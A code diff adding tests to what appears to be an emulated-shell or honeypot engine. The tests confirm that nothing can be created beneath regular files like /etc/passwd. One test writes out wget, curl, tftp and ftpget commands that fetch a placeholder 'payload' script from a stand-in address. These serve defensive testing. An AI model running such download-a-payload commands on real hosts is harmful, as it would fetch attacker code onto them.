@@ -223,3 +223,99 @@ class TestDirectoryWrites:
         engine.run_line("touch /tmp")
         assert ctx.file_events == []
         assert not ctx.fs.is_file("/tmp")
+
+
+class TestWritesUnderAFile:
+    """A regular file is never a directory: nothing is made under one."""
+
+    @staticmethod
+    def assert_unchanged(ctx, fingerprint):
+        assert ctx.file_events == []
+        assert ctx.fs.fingerprint == fingerprint
+        for path in ("/etc/passwd", "/etc/hosts", "/etc/shadow", "/etc/issue"):
+            assert ctx.fs.is_file(path) and not ctx.fs.is_dir(path)
+
+    def test_mkdir_on_a_file(self, ctx, engine):
+        fingerprint = ctx.fs.fingerprint
+        record = engine.run_line("mkdir /etc/passwd || echo failed")
+        assert record.output == (
+            "mkdir: cannot create directory '/etc/passwd': File exists\nfailed\n"
+        )
+        self.assert_unchanged(ctx, fingerprint)
+
+    def test_mkdir_under_a_file(self, ctx, engine):
+        fingerprint = ctx.fs.fingerprint
+        record = engine.run_line("cd /etc; mkdir -p passwd/x")
+        assert record.output == (
+            "mkdir: cannot create directory 'passwd/x': Not a directory\n"
+        )
+        self.assert_unchanged(ctx, fingerprint)
+        assert not ctx.fs.is_dir("/etc/passwd/x")
+
+    def test_cd_into_a_file_still_fails(self, ctx, engine):
+        engine.run_line("mkdir /etc/passwd; cd /etc/passwd")
+        assert ctx.cwd == "/root"
+
+    def test_redirect_under_a_file(self, ctx, engine):
+        fingerprint = ctx.fs.fingerprint
+        record = engine.run_line("echo x > /etc/hosts/y || echo failed")
+        assert record.output == "-bash: /etc/hosts/y: Not a directory\nfailed\n"
+        self.assert_unchanged(ctx, fingerprint)
+        assert not ctx.fs.exists("/etc/hosts/y")
+
+    def test_touch_under_a_file(self, ctx, engine):
+        fingerprint = ctx.fs.fingerprint
+        record = engine.run_line("touch /etc/passwd/z")
+        assert record.output == (
+            "touch: cannot touch '/etc/passwd/z': Not a directory\n"
+        )
+        self.assert_unchanged(ctx, fingerprint)
+
+    def test_cp_under_a_file(self, ctx, engine):
+        fingerprint = ctx.fs.fingerprint
+        record = engine.run_line("cp /etc/hosts /etc/passwd/q")
+        assert record.output == "cp: cannot stat '/etc/passwd/q': Not a directory\n"
+        self.assert_unchanged(ctx, fingerprint)
+
+    def test_mv_under_a_file_keeps_the_source(self, ctx, engine):
+        fingerprint = ctx.fs.fingerprint
+        record = engine.run_line("mv /etc/issue /etc/shadow/k")
+        assert record.output == "mv: cannot stat '/etc/shadow/k': Not a directory\n"
+        self.assert_unchanged(ctx, fingerprint)
+
+    def test_downloads_under_a_file(self):
+        url = "http://203.0.113.9/x.sh"
+        for line, output in (
+            (f"wget -O /etc/passwd/w {url}", "/etc/passwd/w: Not a directory\n"),
+            (
+                f"curl -o /etc/passwd/c {url}",
+                "curl: (23) Failure writing output to destination\n",
+            ),
+            (
+                "tftp -g -r /etc/passwd/t 203.0.113.9",
+                "tftp: can't open '/etc/passwd/t': Not a directory\n",
+            ),
+            (
+                "ftpget 203.0.113.9 /etc/passwd/f x.sh",
+                "ftpget: can't open '/etc/passwd/f': Not a directory\n",
+            ),
+        ):
+            ctx = ShellContext(
+                remote_files={
+                    url: b"payload",
+                    "tftp://203.0.113.9//etc/passwd/t": b"payload",
+                    "ftp://203.0.113.9/x.sh": b"payload",
+                }
+            )
+            fingerprint = ctx.fs.fingerprint
+            record = ShellEngine(ctx).run_line(f"{line} || echo failed")
+            assert record.output == output + "failed\n"
+            self.assert_unchanged(ctx, fingerprint)
+
+    def test_filesystem_refuses_paths_under_a_file(self):
+        fs = FakeFilesystem()
+        assert not fs.mkdirs("/etc/passwd")
+        assert not fs.mkdirs("/etc/passwd/x/y")
+        assert fs.write("/etc/hosts/y", b"x") is None
+        assert fs.fingerprint == FakeFilesystem().fingerprint
+        assert not fs.is_dir("/etc/passwd") and not fs.is_dir("/etc/hosts")
